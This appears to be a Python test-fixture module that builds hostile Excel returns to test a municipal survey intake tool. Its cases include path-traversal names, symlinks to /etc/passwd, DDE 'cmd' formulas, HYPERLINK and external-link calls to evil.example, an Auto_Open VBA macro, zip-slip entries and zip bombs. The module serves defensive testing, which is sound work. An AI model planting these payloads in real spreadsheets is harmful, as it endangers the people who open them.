"""The hostile corpus of issue 9: returned files a hostile or careless sender could put in the inbox.

Every case is built at test time from real templates (:func:`reform_xlsx.templates.write_template`
filled with :func:`reform_xlsx.templates.fill.fill_template`), then broken with openpyxl or by
editing zip members and XML parts; no opaque blobs (the two OLE2 files come from
:func:`intake_craft.cfb`). Each case is one small function registered with :func:`case`, which
declares what must become of the hostile file: its one status and exactly the codes it carries::

    @case("active", "rejected", "V009")
    def dde_formula(ctx, inbox):
        return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, formula("cmd|' /C calc'!A0", "0"))])

A case that makes several files returns ``{path: Expect}`` instead. ``tests/test_hostile.py`` runs
each case in a batch beside good returns of other sections.

Also here: :func:`snapshot` (a folder tree as it is on disk, links and FIFOs never followed or
opened) and :func:`active_content` (what in an output workbook could run, call out or link out).
"""

from __future__ import annotations

import functools
import io
import os
import random
import re
import shutil
import socket
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from intake_craft import RESPONDENT, cfb
from reform_xlsx import outputs
from reform_xlsx.form import layout
from reform_xlsx.intake import parts as ooxml_parts
from reform_xlsx.intake.sniff import OLE2_MAGIC
from reform_xlsx.intake.walk import shown_name
from reform_xlsx.messages import Msg, Severity
from reform_xlsx.plan.model import Plan
from reform_xlsx.templates import write_template
from reform_xlsx.templates.fill import cell_map, fill_template

YEAR = 2026
H = "財政課"  # the section whose return is made hostile (10 items, KPIs K09 and K12)
H2 = "税務課"  # the other section of the "swapped" cases
GOOD_SECTIONS = ("市民課", "観光課")  # good returns beside every case (KPIs with a rate; one item only)
ITEMS, KPI, META = layout.SHEET_ITEMS, layout.SHEET_KPI, layout.SHEET_META
GRADE, RESULT, NEXT, YEN = "進捗状況", "取組実績", "課題・今後の方針", "財政効果額（円）"
ACTUAL, NOTE = "実績値", "算出根拠・備考"
FIELDS = {GRADE: "grade", RESULT: "result", NEXT: "plan_next", YEN: "effect_yen", ACTUAL: "actual", NOTE: "note"}
MiB = 1 << 20


# ============================================================================ context
class Ctx:
    """The plan, real templates and good returns (each made once, in ``cache``)."""

    def __init__(self, plan: Plan, cache: Path):
        self.plan, self.cache = plan, cache
        cache.mkdir(parents=True, exist_ok=True)
        self._templates: dict[tuple[int, str], Path] = {}
        self._goods: dict[str, Path] = {}
        self._maps: dict[tuple[str, str], dict] = {}
        self._n = 0

    def template(self, section: str, year: int = YEAR) -> Path:
        if (year, section) not in self._templates:
            target = self.cache / "templates" / outputs.template(self.plan.words, year, section)
            self._templates[year, section] = write_template(self.plan, year, section, target)
        return self._templates[year, section]

    def answers(self, section: str, changes: dict | None = None, year: int = YEAR) -> dict:
        """Answers that pass every check, then ``changes`` ({sheet: {ID: {label: value}}})."""
        yen = 100000 + 1000 * self.plan.sections.index(section)  # a shared item's amounts differ (no R005)
        items = {i.id: {GRADE: "A 計画どおり", RESULT: f"{i.id} を実施した。", NEXT: "継続する。", YEN: yen}
                 for i in self.plan.items_for(section, year)}
        items[layout.RESPONDENT_ID] = dict(RESPONDENT)
        out = {ITEMS: items}
        kpis = self.plan.kpis_for(section)
        if kpis:
            out[KPI] = {k.id: {ACTUAL: 0.3 if k.is_rate else int(k.baseline), NOTE: "集計による"} for k in kpis}
        for sheet, rows in (changes or {}).items():
            for row_id, values in rows.items():
                out.setdefault(sheet, {}).setdefault(row_id, {}).update(values)
        return out

    def filled(self, section: str, target: Path, changes: dict | None = None, year: int = YEAR) -> Path:
        return fill_template(self.template(section, year), self.answers(section, changes, year), target)

    def good(self, section: str) -> Path:
        """The good return of ``section`` (accepted without a problem)."""
        if section not in self._goods:
            self._goods[section] = self.filled(section, self.cache / "goods" / outputs.template(self.plan.words, YEAR, section))
        return self._goods[section]

    def good_copy(self, section: str, target: Path) -> Path:
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(self.good(section), target)
        return target

    def rejected(self) -> Path:
        """H's return with the first 進捗状況 blank (V002): rejected, so a 差し戻し copy is written."""
        return self.filled(H, self.scratch(), {ITEMS: {self.item: {GRADE: None}}})

    def scratch(self, suffix: str = ".xlsx") -> Path:
        """A fresh path for an intermediate file (never in the inbox)."""
        self._n += 1
        (self.cache / "scratch").mkdir(exist_ok=True)
        return self.cache / "scratch" / f"{self._n}{suffix}"

    def ref(self, sheet: str, row_id: str, label: str, section: str = H) -> str:
        """A1 address of a cell, found the way the reader finds it."""
        if (sheet, section) not in self._maps:
            wb = openpyxl.load_workbook(self.template(section))
            self._maps[sheet, section] = cell_map(wb[sheet], layout.ID_LABEL_KPI if sheet == KPI else layout.ID_LABEL_ITEMS)
        return self._maps[sheet, section][(row_id, layout.normalise_label(label))]

    @property
    def item(self) -> str:  # H's first item
        return self.plan.items_for(H)[0].id

    @property
    def kpi(self) -> str:  # K12: a count KPI of H
        return self.plan.kpis_for(H)[-1].id


# ============================================================================ cases
@dataclass(frozen=True)
class Expect:
    """What must become of one hostile file: its status and exactly the codes it carries."""

    status: str  # a FileStatus value
    codes: tuple[str, ...]


def expect(status: str, *codes: str) -> Expect:
    return Expect(status, tuple(sorted(codes)))


Build = Callable[[Ctx, Path], "Path | list[Path] | dict[Path, Expect]"]


@dataclass(frozen=True)
class Case:
    name: str
    group: str
    build: Build
    expected: Expect | None  # for every file the case returns (None: the case returns its own)
    posix: bool = False  # FIFOs, sockets, symlinks: not on Windows
    followup: bool = False  # then a merge of good files only, on the same ledger
    stands_for: tuple[str, ...] = (H,)  # sections that get no good return beside it

    def make(self, ctx: Ctx, inbox: Path) -> dict[str, Expect]:
        """Build the hostile file(s) into ``inbox``: {name as merge shows it: what must happen}."""
        made = self.build(ctx, inbox)
        if not isinstance(made, dict):
            made = dict.fromkeys(made if isinstance(made, list) else [made], self.expected)
        return {shown_name(p.relative_to(inbox).as_posix()): e for p, e in made.items()}


CASES: list[Case] = []


def case(group: str, status: str | None = None, *codes: str, posix: bool = False, followup: bool = False,
         stands_for: tuple[str, ...] = (H,)):
    """Register a case of ``group`` whose file(s) must get ``status`` with exactly ``codes``. A file refused
    for a broken or unsafe part whose custom properties (one part, capped, read alone) name its section
    is ``rejected`` (sent back to that section); ``skipped`` when they cannot be had."""
    def register(fn: Build) -> Build:
        CASES.append(Case(fn.__name__, group, fn, expect(status, *codes) if status else None, posix, followup,
                          stands_for))
        return fn
    return register


@functools.cache
def bundled_words():
    """The bundled plan's words (its file names say them)."""
    from reform_xlsx.plan import load_plan

    return load_plan()[0].words


def name_of(section: str, year: int = YEAR) -> str:
    """A section's 調査票 file name, as the office sends it out."""
    return outputs.template(bundled_words(), year, section)


def hostile(inbox: Path, name: str | None = None) -> Path:
    """Where the hostile file goes (H's template name by default)."""
    inbox.mkdir(parents=True, exist_ok=True)
    return inbox / (name or name_of(H))


# ====================================================================== zip and XML edits
def members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def write_zip(target: Path, entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """A zip of ``entries`` in order (a name may repeat: zipfile only warns)."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(target, "w", compression) as zf:
            for name, data in entries:
                zf.writestr(name, data)
    return target


Change = bytes | Callable[[bytes], bytes] | None


def edit_zip(source: Path, target: Path, changes: dict[str, Change] | None = None,
             add: list[tuple[str, bytes]] = ()) -> Path:
    """Copy a zip, replacing (bytes), transforming (callable) or dropping (None) members, then adding ``add``."""
    changes = changes or {}
    entries = members(source)
    assert set(changes) <= {n for n, _ in entries}, f"no such member: {set(changes) - {n for n, _ in entries}}"
    out = []
    for name, data in entries:
        if name in changes:
            new = changes[name]
            if new is None:
                continue
            data = new(data) if callable(new) else new
        out.append((name, data))
    return write_zip(target, out + list(add))


def sheet_part(path: Path, sheet: str) -> str:
    with zipfile.ZipFile(path) as zf:
        found = ooxml_parts.sheet_parts(zf.read(ooxml_parts.WORKBOOK_PART), zf.read(ooxml_parts.WORKBOOK_RELS))
    return next(part for name, part, _state in found if name == sheet)


def edit_sheet(ctx: Ctx, target: Path, sheet: str, fn: Callable[[bytes], bytes], source: Path | None = None) -> Path:
    source = source or ctx.good(H)
    return edit_zip(source, target, {sheet_part(source, sheet): fn})


def sub1(xml: bytes, old: bytes, new: bytes) -> bytes:
    """Replace the first match of the regex ``old``; it must be there."""
    out, n = re.subn(old, lambda _m: new, xml, count=1)
    assert n == 1, f"not found: {old[:80]!r}"
    return out


def set_cell(xml: bytes, ref: str, inner: str, t: str | None = None) -> bytes:
    """Cell ``ref`` becomes ``<c r=ref s=.. t=t>inner</c>`` (its style kept)."""
    m = re.search(rb'<c r="' + ref.encode() + rb'"(?P<attrs>[^>]*?)(?:/>|>.*?</c>)', xml, flags=re.S)
    assert m, f"cell {ref} not in the sheet"
    style = re.search(rb's="(\d+)"', m.group("attrs"))
    attrs = (f' s="{style.group(1).decode()}"' if style else "") + (f' t="{t}"' if t else "")
    return xml[:m.start()] + f'<c r="{ref}"{attrs}>{inner}</c>'.encode() + xml[m.end():]


def escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def inline(text: str) -> tuple[str, str]:
    """An inline string cell's content and type."""
    return f'<is><t xml:space="preserve">{escape(text)}</t></is>', "inlineStr"


def formula(text: str, cached: str | None = None, t: str | None = None) -> tuple[str, str | None]:
    """A formula cell's content (with a cached value or without) and type."""
    return f"<f>{escape(text)}</f>" + (f"<v>{escape(cached)}</v>" if cached is not None else ""), t


def with_cells(ctx: Ctx, target: Path, cells: list[tuple[str, str, str, tuple[str, str | None]]],
               source: Path | None = None) -> Path:
    """Edit cells in the sheet XML: [(sheet, row ID, label, (inner XML, t))]."""
    source = source or ctx.good(H)
    by_sheet: dict[str, list] = {}
    for sheet, row_id, label, (inner, t) in cells:
        by_sheet.setdefault(sheet, []).append((ctx.ref(sheet, row_id, label), inner, t))

    def editor(edits):
        def fn(xml: bytes) -> bytes:
            for ref, inner, t in edits:
                xml = set_cell(xml, ref, inner, t)
            return xml
        return fn

    return edit_zip(source, target, {sheet_part(source, s): editor(e) for s, e in by_sheet.items()})


def edit_wb(source: Path, target: Path, change: Callable[[openpyxl.Workbook], None]) -> Path:
    """Open with openpyxl, change, save (roughly what a section's Excel does)."""
    wb = openpyxl.load_workbook(source)
    change(wb)
    target.parent.mkdir(parents=True, exist_ok=True)
    wb.save(target)
    return target


def set_section(wb: openpyxl.Workbook, value: str, *, properties: bool = True, sheet: bool = True) -> None:
    if properties:
        for prop in wb.custom_doc_props.props:
            if prop.name == layout.META_SECTION:
                prop.value = value
    if sheet:
        for row in wb[META].iter_rows():
            if row[0].value == layout.META_SECTION:
                row[1].value = value


def xml_declaration(xml: bytes, decl: bytes) -> bytes:
    if xml.startswith(b"<?xml"):
        return re.sub(rb"^<\?xml[^>]*\?>", lambda _m: decl, xml, count=1)
    return decl + xml


def with_doctype(xml: bytes, doctype: bytes) -> bytes:
    """``doctype`` right after the XML declaration (or at the start)."""
    m = re.match(rb"<\?xml[^>]*\?>", xml)
    cut = m.end() if m else 0
    return xml[:cut] + doctype + xml[cut:]


def patch_raw(path: Path, name: str, *, data_fn: Callable[[bytearray], None] | None = None,
              declared_size: int | None = None) -> Path:
    """Edit a zip in place: a member's compressed bytes (same length) and/or its declared size."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as zf:
        info = zf.getinfo(name)
    n, m = struct.unpack_from("<HH", raw, info.header_offset + 26)
    start = info.header_offset + 30 + n + m
    if data_fn is not None:
        chunk = bytearray(raw[start:start + info.compress_size])
        data_fn(chunk)
        raw[start:start + info.compress_size] = chunk
    if declared_size is not None:
        struct.pack_into("<I", raw, info.header_offset + 22, declared_size)
        pos = 0
        while (pos := raw.find(b"PK\x01\x02", pos)) >= 0:  # the central directory entry
            length = struct.unpack_from("<H", raw, pos + 28)[0]
            if raw[pos + 46:pos + 46 + length].decode("utf-8", "replace") == name:
                struct.pack_into("<I", raw, pos + 24, declared_size)
            pos += 46
    path.write_bytes(bytes(raw))
    return path


def _data_rows(ws) -> range:
    header = layout.find_header_row([[c.value for c in r] for r in ws.iter_rows(max_row=40)], layout.ID_LABEL_ITEMS)
    return range(header + 2, ws.max_row + 1)


# --- 1. names from files (what the 差し戻し copy is called) -----------------------------------
def _section(ctx: Ctx, inbox: Path, value: str, **where) -> Path:
    return edit_wb(ctx.rejected(), hostile(inbox), lambda wb: set_section(wb, value, **where))


@case("names", "rejected", "M005")
def section_dotdot(ctx, inbox):
    return _section(ctx, inbox, "../../x/evil")


@case("names", "rejected", "M005")
def section_dotdot_deep(ctx, inbox):
    return _section(ctx, inbox, "../../../../x/evil")


@case("names", "rejected", "M008", "V002")
def section_dotdot_meta_only(ctx, inbox):
    """_meta says ../../x, the properties still say 財政課 (they win: a warning)."""
    return _section(ctx, inbox, "../../../../x/evil_meta", properties=False)


@case("names", "rejected", "M005")
def section_slash(ctx, inbox):
    return _section(ctx, inbox, "財政課/sub/evil")


@case("names", "rejected", "M005")
def section_backslash(ctx, inbox):
    return _section(ctx, inbox, "..\\..\\..\\..\\x\\evil")


@case("names", "rejected", "M005")
def section_300(ctx, inbox):
    return _section(ctx, inbox, "課" * 300)


@case("names", "rejected", "M005", "M008")
def section_huge_custom(ctx, inbox):
    """100,000 characters in docProps/custom.xml only (~300 KB)."""
    big = "課" * 100_000
    return edit_zip(ctx.rejected(), hostile(inbox), {"docProps/custom.xml": lambda x: x.replace(
        "<vt:lpwstr>財政課</vt:lpwstr>".encode(), f"<vt:lpwstr>{big}</vt:lpwstr>".encode())})


@case("names", "accepted")
def filename_control(ctx, inbox):
    """A good return under a name with a newline, ESC and BEL (POSIX allows them)."""
    name = "財政課\n\x1b[31m赤\x07.xlsx" if os.name != "nt" else "財政課 赤.xlsx"
    return ctx.good_copy(H, hostile(inbox, name))


# --- 2. one file that crashed the whole merge --------------------------------------------------
@case("crash", "rejected", "F006")
def content_types_bad_deflate(ctx, inbox):
    """A corrupt deflate stream in [Content_Types].xml (zlib.error in the parent before)."""
    target = ctx.good_copy(H, hostile(inbox))

    def breaks(chunk: bytearray) -> None:
        chunk[0] = 0x07  # BFINAL=1, BTYPE=11: "invalid block type"

    return patch_raw(target, "[Content_Types].xml", data_fn=breaks)


@case("crash", "rejected", "F006")
def random_byte_flips(ctx, inbox):
    """Eight bytes flipped at random in the compressed data of the parts that carry the answers (the sheets, the
    shared strings): a corrupt file (F006), sent back to its section — whose properties part is intact. (Flips
    anywhere in the file landed, as the form's parts changed size, now here and now in the properties: the file
    of no one, a different case.)"""
    source = ctx.good(H)
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as z:
        spans = []
        for info in z.infolist():
            if info.filename.startswith(("xl/worksheets/", "xl/sharedStrings")):
                name_and_extra = data[info.header_offset + 26:info.header_offset + 30]
                start = info.header_offset + 30 + int.from_bytes(name_and_extra[:2], "little") + int.from_bytes(
                    name_and_extra[2:], "little")
                spans += range(start, start + info.compress_size)
    rng = random.Random(9)
    for at in rng.sample(spans, 8):
        data[at] ^= 0xFF
    target = hostile(inbox)
    target.write_bytes(bytes(data))
    return target


def _bad_encoding(ctx: Ctx, inbox: Path, part: str) -> Path:
    return edit_zip(ctx.good(H), hostile(inbox), {part: lambda x: xml_declaration(x, b'<?xml version="1.0" encoding="s"?>')})


@case("crash", "accepted")
def core_encoding_s(ctx, inbox):
    """encoding="s" in docProps/core.xml: the save time is not read; nothing else is lost."""
    return _bad_encoding(ctx, inbox, "docProps/core.xml")


@case("crash", "accepted")
def custom_encoding_s(ctx, inbox):
    return _bad_encoding(ctx, inbox, "docProps/custom.xml")


@case("crash", "rejected", "F016")
def workbook_encoding_s(ctx, inbox):
    return _bad_encoding(ctx, inbox, "xl/workbook.xml")


@case("crash", "accepted")
def sheet_encoding_s(ctx, inbox):
    return _bad_encoding(ctx, inbox, sheet_part(ctx.good(H), ITEMS))


@case("crash", "rejected", "V026")  # no spreadsheet writes it: LibreOffice shows 「NaN」, calamine reads NaN
def nan_number(ctx, inbox):
    return with_cells(ctx, hostile(inbox), [(KPI, ctx.kpi, ACTUAL, ("<v>NaN</v>", "n"))])


@case("crash", "rejected", "V026")  # LibreOffice shows 「INF」, calamine reads ∞
def inf_yen(ctx, inbox):
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, YEN, ("<v>1e999</v>", "n"))])


@case("crash", "rejected", "F016")
def truncated_sheet_xml(ctx, inbox):
    """The 取組状況 sheet's XML cut in half inside a valid zip."""
    return edit_zip(ctx.good(H), hostile(inbox), {sheet_part(ctx.good(H), ITEMS): lambda x: x[:len(x) // 2]})


@case("crash", "rejected", "V003")
def kpi_x0007(ctx, inbox):
    """_x0007_ escapes typed into a KPI 実績値 (a control character reached openpyxl in a message)."""
    return with_cells(ctx, hostile(inbox), [(KPI, ctx.kpi, ACTUAL, inline("_x0007_12_x0001_"))])


@case("crash", "rejected", "V013", followup=True)
def yen_1e30(ctx, inbox):
    return ctx.filled(H, hostile(inbox), {ITEMS: {ctx.item: {YEN: 10**30}}})


@case("crash", "rejected", "V013", followup=True)
def yen_2_63(ctx, inbox):
    return ctx.filled(H, hostile(inbox), {ITEMS: {ctx.item: {YEN: 2**63}}})


@case("crash", "rejected", "V013", followup=True)
def yen_as_text_huge(ctx, inbox):
    return ctx.filled(H, hostile(inbox), {ITEMS: {ctx.item: {YEN: "9999兆9999億円"}}})


@case("crash", "rejected", "V013", followup=True)
def kpi_1e300(ctx, inbox):
    return ctx.filled(H, hostile(inbox), {KPI: {ctx.kpi: {ACTUAL: 1e300}}})


# --- 3. what hung the parent: not regular files --------------------------------------------------
@case("hang", "ignored", "F022", posix=True)
def fifo(ctx, inbox):
    target = hostile(inbox)
    os.mkfifo(target)
    return target


def _symlink(inbox: Path, to: str | Path, name: str | None = None) -> Path:
    target = hostile(inbox, name)
    os.symlink(to, target)
    return target


@case("hang", "ignored", "F023", posix=True)
def symlink_dev_zero(ctx, inbox):
    return _symlink(inbox, "/dev/zero")


@case("hang", "ignored", "F023", posix=True)
def symlink_dev_urandom(ctx, inbox):
    return _symlink(inbox, "/dev/urandom")


@case("hang", "ignored", "F022", posix=True)
def unix_socket(ctx, inbox):
    target = hostile(inbox, "s.xlsx")
    cwd = os.getcwd()
    try:
        os.chdir(inbox)  # AF_UNIX paths are short
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind("s.xlsx")
    finally:
        os.chdir(cwd)
    return target


@case("links", "ignored", "F023", posix=True)
def symlink_outside(ctx, inbox):
    """A link to a good 財政課 return outside the inbox: not followed."""
    return _symlink(inbox, ctx.good_copy(H, inbox.parent / "outside" / "secret.xlsx"))


@case("links", "ignored", "F023", posix=True)
def symlink_etc_passwd(ctx, inbox):
    return _symlink(inbox, "/etc/passwd")


@case("links", "skipped", "F019", posix=True)
def symlink_loop(ctx, inbox):
    a, b = hostile(inbox, "loop_a.xlsx"), hostile(inbox, "loop_b.xlsx")
    os.symlink(b.name, a)
    os.symlink(a.name, b)
    return [a, b]


@case("links", "ignored", "F023", posix=True)
def symlink_dangling(ctx, inbox):
    return _symlink(inbox, "/nonexistent/財政課.xlsx")


@case("links", "accepted")
def folder_named_xlsx(ctx, inbox):
    """A folder named like a workbook is walked into, not read: the return inside is."""
    return ctx.good_copy(H, hostile(inbox, "folder.xlsx") / "inside.xlsx")


# --- 6. active content: never back in any output ----------------------------------------------
@case("active", "rejected", "V009")
def dde_formula(ctx, inbox):
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, formula("cmd|' /C calc'!A0", "0"))])


@case("active", "rejected", "V009")
def hyperlink_formula(ctx, inbox):
    f = formula('HYPERLINK("http://evil.example/steal?x=1","詳細はこちら")', "詳細はこちら", "str")
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, f)])


@case("active", "rejected", "V001")
def hyperlink_cell(ctx, inbox):
    """A cell hyperlink to an outside address, and a grade that is not a choice (so: a 差し戻し copy)."""
    def change(wb):
        wb[ITEMS][ctx.ref(ITEMS, ctx.item, RESULT)].hyperlink = "http://evil.example/phish"
        wb[ITEMS][ctx.ref(ITEMS, ctx.item, GRADE)].value = "Z"
    return edit_wb(ctx.good(H), hostile(inbox), change)


_EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                  b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
                  b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row></sheetData>'
                  b'</sheetDataSet></externalBook></externalLink>')
_EXTERNAL_LINK_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                       b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                       b'relationships/externalLinkPath" Target="http://evil.example/share/book.xlsx" '
                       b'TargetMode="External"/></Relationships>')


@case("active", "rejected", "V009")
def external_link(ctx, inbox):
    """An external workbook link (to an http URL) used by a formula in 財政効果額."""
    source = with_cells(ctx, ctx.scratch(), [(ITEMS, ctx.item, YEN, formula("[1]Sheet1!$A$1", "5"))])
    changes: dict[str, Change] = {
        "xl/workbook.xml": lambda x: sub1(x, rb"</sheets>", b'</sheets><externalReferences>'
                                          b'<externalReference r:id="rId99"/></externalReferences>'),
        "xl/_rels/workbook.xml.rels": lambda x: sub1(
            x, rb"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                                     b'officeDocument/2006/relationships/externalLink" '
                                     b'Target="externalLinks/externalLink1.xml"/></Relationships>'),
        "[Content_Types].xml": lambda x: sub1(
            x, rb"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                             b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'),
    }
    add = [("xl/externalLinks/externalLink1.xml", _EXTERNAL_LINK),
           ("xl/externalLinks/_rels/externalLink1.xml.rels", _EXTERNAL_LINK_RELS)]
    return edit_zip(source, hostile(inbox), changes, add)


_VBA = cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nName="EVIL"\r\n'
                       b'Sub Auto_Open()\r\n Shell "calc"\r\nEnd Sub\r\n'})


def _with_vba(source: Path, target: Path, stored_as: str = "vbaProject.bin") -> Path:
    changes: dict[str, Change] = {
        "[Content_Types].xml": lambda x: sub1(
            sub1(x, rb"application/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml",
                 b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            rb"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
        "xl/_rels/workbook.xml.rels": lambda x: sub1(
            x, rb"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/'
                                     b'relationships/vbaProject" Target="' + stored_as.encode() + b'"/></Relationships>'),
    }
    return edit_zip(source, target, changes, [("xl/" + stored_as, _VBA)])


@case("active", "rejected", "V002")
def xlsm_rejected(ctx, inbox):
    """A rejected .xlsm with a VBA project: its 差し戻し copy (.xlsx) must not carry it."""
    return _with_vba(ctx.rejected(), hostile(inbox, name_of(H).removesuffix(".xlsx") + ".xlsm"))


@case("active", "rejected", "V002")
def xlsm_renamed_xlsx(ctx, inbox):
    return _with_vba(ctx.rejected(), hostile(inbox))


@case("active", "rejected", "V002")
def vba_bin_renamed(ctx, inbox):
    """A VBA project stored under an innocent name (xl/media/image1.png)."""
    return _with_vba(ctx.rejected(), hostile(inbox), stored_as="media/image1.png")


@case("active", "rejected", "V002")
def unknown_parts(ctx, inbox):
    """An OLE object, customXml and a zip-slip member name, in a rejected return."""
    add = [("xl/embeddings/oleObject1.bin", cfb({"Ole10Native": b"MZ evil.exe"})),
           ("customXml/item1.xml", b"<x>payload</x>"), ("evil/../../escape.txt", b"zip-slip")]
    return edit_zip(ctx.rejected(), hostile(inbox), {}, add)


# What a section may type: as text (a value), and as a formula with and without a cached value.
TYPED = {  # typed → (formula as stored, codes when typed as text)
    "=cmd|' /C calc'!A0": ("cmd|' /C calc'!A0", ("V003", "V006")),
    "@SUM(1)": ("_xlfn.SINGLE(SUM(1))", ("V003", "V006")),
    "+1": ("+1", ("V015",)),  # read as 1: accepted, with the officer's check that 1 is far from the KPI's scale
    "-1+1": ("-1+1", ("V003", "V006")),
}


def _slug(text: str) -> str:
    for sym, word in (("=", "eq_"), ("@", "at_"), ("+", "_plus_"), ("-", "minus_")):
        text = text.replace(sym, word)
    return re.sub(r"\W+", "_", text).strip("_")


def _typed_as_text(typed: str) -> Build:
    def build(ctx, inbox):
        changes = {ITEMS: {ctx.item: {RESULT: typed, YEN: typed}}, KPI: {ctx.kpi: {ACTUAL: typed, NOTE: typed}}}
        return ctx.filled(H, hostile(inbox), changes)
    build.__name__ = f"text_{_slug(typed)}"
    return build


def _typed_as_formula(typed: str, stored: str, cached: bool) -> Build:
    def build(ctx, inbox):
        f = formula(stored, "1" if cached else None)
        return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, f), (ITEMS, ctx.item, YEN, f),
                                                (KPI, ctx.kpi, ACTUAL, f)])
    build.__name__ = f"formula_{_slug(typed)}_{'cached' if cached else 'nocache'}"
    return build


for _typed, (_stored, _text_codes) in TYPED.items():
    _accepted = all(next(m for m in Msg if m.value.code == c).value.severity is Severity.WARNING for c in _text_codes)
    case("active", "accepted" if _accepted else "rejected", *_text_codes)(_typed_as_text(_typed))
    case("active", "rejected", "V009")(_typed_as_formula(_typed, _stored, cached=True))
    case("active", "rejected", "V009")(_typed_as_formula(_typed, _stored, cached=False))
case("active", "rejected", "V009")(_typed_as_formula("=1+1", "1+1", cached=False))


@case("active", "accepted")
def formula_text_in_text_fields(ctx, inbox):
    """Formula-like text typed into the text fields only: accepted, and it stays text in every output."""
    return ctx.filled(H, hostile(inbox), {ITEMS: {ctx.item: {RESULT: "=cmd|' /C calc'!A0", NEXT: "@SUM(1)"}},
                                          KPI: {ctx.kpi: {NOTE: '=HYPERLINK("http://evil.example","x")'}}})


@case("active", "rejected", "V009", "V012")
def div0(ctx, inbox):
    """#DIV/0! as a value (KPI) and as a formula's cached error (財政効果額)."""
    return with_cells(ctx, hostile(inbox), [(KPI, ctx.kpi, ACTUAL, ("<v>#DIV/0!</v>", "e")),
                                            (ITEMS, ctx.item, YEN, formula("1/0", "#DIV/0!", "e"))])


# --- 7. zip and sheet structure ---------------------------------------------------------------------
@case("zip", "rejected", "F021")
def duplicate_sheet_entry(ctx, inbox):
    """The 取組状況 sheet twice in the zip, the second with a grade that is not a choice."""
    source = ctx.good(H)
    part = sheet_part(source, ITEMS)
    bad = set_cell(dict(members(source))[part], ctx.ref(ITEMS, ctx.item, GRADE), *inline("Z 不正"))
    return write_zip(hostile(inbox), members(source) + [(part, bad)])


@case("zip", "skipped", "F021")
def duplicate_custom_entry(ctx, inbox):
    """docProps/custom.xml twice, the second naming another 'section' (../../x/dup)."""
    source = ctx.good(H)
    custom = dict(members(source))["docProps/custom.xml"]
    return write_zip(hostile(inbox), members(source) + [
        ("docProps/custom.xml", custom.replace("財政課".encode(), b"../../../../x/dup"))])


def _dimension(ref: bytes) -> Callable[[bytes], bytes]:
    return lambda x: sub1(x, rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref + b'"')


@case("zip", "accepted")
def dimension_false(ctx, inbox):
    """A false <dimension ref="A1:XFD1048576"> on a small sheet: the cells that exist count."""
    return edit_sheet(ctx, hostile(inbox), ITEMS, _dimension(b"A1:XFD1048576"))


@case("zip", "accepted")
def dimension_missing(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: sub1(x, rb'<dimension ref="[^"]*"\s*/>', b""))


@case("zip", "accepted")
def dimension_tiny(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS, _dimension(b"A1"))


def _far_cell(xml: bytes) -> bytes:
    return sub1(xml, rb"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
                                       b'</row></sheetData>')


@case("zip", "rejected", "F012")
def cell_xfd_dimension_true(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: _dimension(b"A1:XFD1048576")(_far_cell(x)))


@case("zip", "rejected", "F012")
def cell_xfd_dimension_lies(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS, _far_cell)


@case("zip", "rejected", "F012")
def cell_xfd_in_kpi(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), KPI, _far_cell)


@case("zip", "accepted")
def cell_xfd_in_guide(ctx, inbox):
    """A far cell on 記入要領, a sheet that is not read."""
    return edit_sheet(ctx, hostile(inbox), layout.SHEET_GUIDE, _far_cell)


def _with_zeros(ctx: Ctx, inbox: Path, size: int, name: str = "xl/media/image1.png") -> Path:
    target = ctx.good_copy(H, hostile(inbox))
    block = b"\0" * MiB
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w", force_zip64=True) as w:
        for _ in range(size // MiB):
            w.write(block)
    return target


@case("zip", "rejected", "F011")
def zip_bomb_ratio(ctx, inbox):
    """64 MB of zeros in one part (about 1,000 : 1)."""
    return _with_zeros(ctx, inbox, 64 * MiB)


@case("zip", "rejected", "F010")
